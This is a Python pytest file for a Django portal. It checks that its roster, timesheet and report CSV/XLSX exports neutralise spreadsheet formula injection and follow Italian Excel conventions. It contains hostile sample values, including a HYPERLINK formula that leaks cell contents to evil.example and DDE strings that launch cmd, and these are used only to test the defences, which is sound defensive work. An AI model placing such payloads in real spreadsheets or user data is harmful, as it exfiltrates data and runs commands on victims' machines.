"""Every CSV and XLSX the portal writes: a hostile name comes out inert (OWASP CSV injection), the CSV opens in
columns in Italian Excel (``;``, BOM, decimal comma), the XLSX holds texts as texts and numbers as numbers.

One test per export: the roster (CSV, XLSX), the timesheets (CSV, XLSX), the reports (CSV, XLSX; the province's
and the funder's versions), and the shared helper itself."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core import spreadsheets
from reporting import services as report_services
from reporting.indicators import Scope

from . import factories as f
from . import timesheet_factories as tf
from .conftest import login_client

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca")'
HOSTILE_PLUS = "+1+cmd|' /C calc'!A0"
HOSTILE_AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(datetime(2026, 11, 18, 10, 0, tzinfo=ZoneInfo("Europe/Rome")), tick=False):
        yield


def read_csv(content: bytes) -> list[list[str]]:
    """What Italian Excel does on a double click: UTF-8 because of the BOM, cells split on ';'."""
    assert content.startswith("\ufeff".encode()), "no BOM: Excel would read the accents as Windows-1252"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def text_cells(workbook) -> dict[str, object]:
    """Every text cell's value → its data type, over every sheet."""
    return {
        cell.value: cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


# --- The helper ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\n+1", HOSTILE, HOSTILE_PLUS, HOSTILE_AT],
)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe_in_the_csv(text):
    assert spreadsheets.safe_text(text) == "'" + text
    assert spreadsheets.csv_value(text) == "'" + text
    assert spreadsheets.unquote_text(spreadsheets.safe_text(text)) == text


@pytest.mark.parametrize("text", ["Amina", "O'Brien", "a=b", "Maghreb - Africa occidentale", "", "3+1"])
def test_ordinary_texts_are_left_alone(text):
    assert spreadsheets.safe_text(text) == text
    assert spreadsheets.unquote_text(text) == text


def test_numbers_and_dates_are_written_the_italian_way_in_the_csv():
    assert spreadsheets.csv_value(Decimal("21.50")) == "21,50"
    assert spreadsheets.csv_value(1.5) == "1,5"
    assert spreadsheets.csv_value(Decimal("1E+3")) == "1000"
    assert spreadsheets.csv_value(20) == "20"
    assert spreadsheets.csv_value(-3) == "-3"  # a number, not a text: never an apostrophe
    assert spreadsheets.csv_value(date(2026, 11, 5)) == "05/11/2026"
    assert spreadsheets.csv_value(None) == ""
    lines = list(spreadsheets.csv_lines(["nome", "ore"], [["Anna; Maria", Decimal("2.5")]]))
    assert lines == ["\ufeff", "nome;ore\r\n", '"Anna; Maria";2,5\r\n']


def test_the_xlsx_cell_keeps_texts_as_texts_and_numbers_as_numbers():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    sheet.append(
        spreadsheets.xlsx_row(sheet, [HOSTILE, "Bell\x07a", Decimal("21.50"), 20, date(2026, 11, 5), None, "fine"])
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert (row[0].value, row[0].data_type, row[0].quotePrefix) == (HOSTILE, "s", True)
    assert (row[1].value, row[1].data_type) == ("Bella", "s")  # a control character would make the file unreadable
    assert (row[2].value, row[2].data_type, row[2].number_format) == (21.5, "n", spreadsheets.MONEY_FORMAT)
    assert (row[3].value, row[3].data_type) == (20, "n")
    assert row[4].is_date and row[4].number_format == spreadsheets.DATE_FORMAT
    assert row[5].value is None and row[6].value == "fine"


# --- The roster ------------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_mediator():
    district = f.DistrictFactory(name="Cremona")
    provider = f.ProviderFactory(province=district.province, name="Cooperativa Ponti")
    mediator = f.MediatorFactory(
        provider=provider,
        districts=[district],
        first_name=HOSTILE,
        last_name=HOSTILE_PLUS,
        email="ostile@example.org",
        phone="+39 0372 406",
        cultural_areas=HOSTILE_AT,
        hourly_rate=Decimal("21.50"),
        travel_rate=Decimal("0.35"),
        max_weekly_hours=20,
        languages=["ara"],
    )
    return mediator, login_client(f.coordinator(district=district))


def test_the_roster_csv_is_inert_and_opens_in_columns_with_decimal_commas(hostile_mediator):
    mediator, client = hostile_mediator
    response = client.get(reverse("mediators:export_csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    header, row = read_csv(b"".join(response.streaming_content))
    values = dict(zip(header, row, strict=True))
    assert len(header) == 17  # in columns, not all in one
    assert values["first_name"] == "'" + HOSTILE
    assert values["last_name"] == "'" + HOSTILE_PLUS
    assert values["cultural_areas"] == "'" + HOSTILE_AT
    assert values["phone"] == "'+39 0372 406"
    assert (values["hourly_rate"], values["travel_rate"], values["max_weekly_hours"]) == ("21,50", "0,35", "20")


def test_the_roster_xlsx_stores_the_hostile_names_as_texts_and_the_rates_as_numbers(hostile_mediator):
    mediator, client = hostile_mediator
    response = client.get(reverse("mediators:export_xlsx"))
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    for column, text in (("first_name", HOSTILE), ("last_name", HOSTILE_PLUS), ("cultural_areas", HOSTILE_AT)):
        assert (row[column].value, row[column].data_type) == (text, "s")
    assert (row["hourly_rate"].value, row["hourly_rate"].data_type) == (21.5, "n")
    assert row["hourly_rate"].number_format == spreadsheets.MONEY_FORMAT
    assert (row["max_weekly_hours"].value, row["max_weekly_hours"].data_type) == (20, "n")


# --- Timesheets ------------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_timesheet():
    world = tf.month_world(held=1)
    world.mediator.first_name = HOSTILE
    world.mediator.save(update_fields=["first_name"])
    world.request.office.name = HOSTILE_AT
    world.request.office.save(update_fields=["name"])
    return world


def _timesheet(world, fmt):
    url = reverse("timesheets:export", args=[world.mediator.pk, world.district.pk, tf.last_month(), fmt])
    response = login_client(world.coordinator).get(url)
    assert response.status_code == 200
    return response


def test_the_timesheet_csv_is_inert_and_opens_in_columns_with_decimal_commas(hostile_timesheet):
    response = _timesheet(hostile_timesheet, "csv")
    header, line, total = read_csv(response.content)
    assert len(header) == len(line) == len(total) > 10
    assert line[0].startswith("'=HYPERLINK(") and HOSTILE in line[0]
    assert line[7] == "'" + HOSTILE_AT
    assert line[4] == f"{hostile_timesheet.appointments[0].starts_at:%d/%m/%Y}"
    assert line[11] == "1,25"  # hours: 75 minutes held
    assert total[12] == "12,5"  # km
    assert all("." not in cell for cell in (line[11], line[12], line[14]))


def test_the_timesheet_xlsx_stores_the_hostile_names_as_texts(hostile_timesheet):
    response = _timesheet(hostile_timesheet, "xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = text_cells(workbook)
    assert cells[HOSTILE_AT] == "s"
    (name,) = [value for value in cells if HOSTILE in value]
    assert cells[name] == "s"
    line = workbook.active[2]
    assert (line[11].value, line[11].data_type) == (1.25, "n")
    assert line[4].is_date


# --- Reports -------------------------------------------------------------------------------------------------------


@pytest.fixture
def hostile_report():
    world = tf.month_world(held=1)
    world.district.name = HOSTILE
    world.district.save(update_fields=["name"])
    # The rows were made by factories, not the services: the monthly aggregates the funder's whole-month summary reads
    # are rebuilt as the nightly job would.
    report_services.aggregates_rebuild(province=world.province)
    month = tf.last_month()
    return world, month


def _scope(world, month, suppress=False):
    return Scope(province=world.province, date_from=month, date_to=date(2026, 10, 31), suppress=suppress)


@pytest.mark.parametrize("suppress", [False, True], ids=["province", "funder"])
def test_the_report_csv_is_inert_and_opens_in_columns(hostile_report, suppress):
    world, month = hostile_report
    buffer = io.BytesIO()
    text = io.TextIOWrapper(buffer, encoding="utf-8-sig", newline="")
    report_services.report_write(scope=_scope(world, month, suppress), format="csv", stream=text)
    text.flush()
    rows = read_csv(buffer.getvalue())
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    if not suppress:
        assert len(rows[0]) == 18 and rows[1][14] == "12,5"  # the km, with a decimal comma


@pytest.mark.parametrize("suppress", [False, True], ids=["province", "funder"])
def test_the_report_xlsx_stores_the_hostile_names_as_texts(hostile_report, suppress):
    world, month = hostile_report
    buffer = io.BytesIO()
    report_services.report_write(scope=_scope(world, month, suppress), format="xlsx", stream=buffer)
    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    assert text_cells(workbook)[HOSTILE] == "s"
    if not suppress:
        assert isinstance(workbook.worksheets[0]["D2"].value, int)  # planned minutes stay a number
